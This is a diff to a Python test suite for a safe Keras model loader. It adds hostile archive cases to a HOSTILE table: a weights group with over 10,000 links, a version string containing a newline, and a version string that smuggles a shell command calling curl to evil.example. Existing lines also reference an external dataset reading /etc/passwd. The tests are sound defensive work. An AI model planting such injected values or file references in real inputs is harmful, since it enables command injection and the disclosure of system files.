@@ -126,6 +126,12 @@ def _virtual(file):
     file.create_virtual_dataset(FIRST, layout)
 
 
+def _many(file):
+    group, array = file.create_group("many"), file[FIRST]
+    for number in range(10_001):
+        group[str(number)] = array
+
+
 def _not_a_number(file):
     file[FIRST][0] = np.nan
 
@@ -188,6 +194,14 @@ HOSTILE = {
     "pickled weights": (_npz, "holds 'model.weights.npz', which has no place"),
     "assets": (_set("assets/a.txt", b"a"), "holds 'assets/a.txt', which has no place"),
     "newer Keras": (_set("metadata.json", b'{"keras_version": "99.0.0"}'), "written by Keras 99.0.0, and"),
+    "words for a shell": (
+        _set("metadata.json", b'{"keras_version": "99.0\'; curl evil.example; \'"}'),
+        "does not say which Keras wrote it",
+    ),
+    "version and a line": (
+        _set("metadata.json", b'{"keras_version": "99.0\\n"}'),
+        "does not say which Keras wrote it",
+    ),
     "no Keras": (_set("metadata.json", b"{}"), "does not say which Keras wrote it"),
     "deep config": (_set("config.json", b'{"a":' * 200_000), "nested more than 64 deep"),
     "large config": (
@@ -216,6 +230,7 @@ HOSTILE = {
         _weights(_replaced(shape=(4,), dtype="u1", external=[("/etc/passwd", 0, 4)])),
         "which lies in another file",
     ),
+    "many links": (_weights(_many), "its weights have more than 10,000 parts"),
     "virtual dataset": (_weights(_virtual), "which lies in another file"),
     "objects": (_weights(_replaced(data=["a"])), "which is no array of numbers"),
     "not a number": (_weights(_not_a_number), "layers/conv3d/vars/0 are not all finite"),
